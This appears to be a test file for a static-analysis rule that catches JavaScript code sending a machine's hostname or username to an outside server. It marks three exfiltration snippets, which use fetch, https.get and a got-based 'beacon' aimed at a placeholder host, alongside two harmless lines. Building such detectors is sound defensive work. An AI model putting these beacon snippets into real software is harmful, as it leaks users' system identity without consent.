// ruleid: sysinfo-sent
fetch("https://b.example.invalid/in", { method: "POST", body: os.hostname() });
// ruleid: sysinfo-sent
https.get(`https://b.example.invalid/?h=${os.userInfo().username}`);
// ok: sysinfo-sent
console.log(os.hostname());
// ok: sysinfo-sent
fetch("https://api.example.com/items");

const beacon = got.extend({ prefixUrl: "https://b.example.invalid" });
const facts = { h: os.hostname(), u: os.userInfo().username };
// ruleid: sysinfo-sent
await beacon.post("hi", { json: facts });
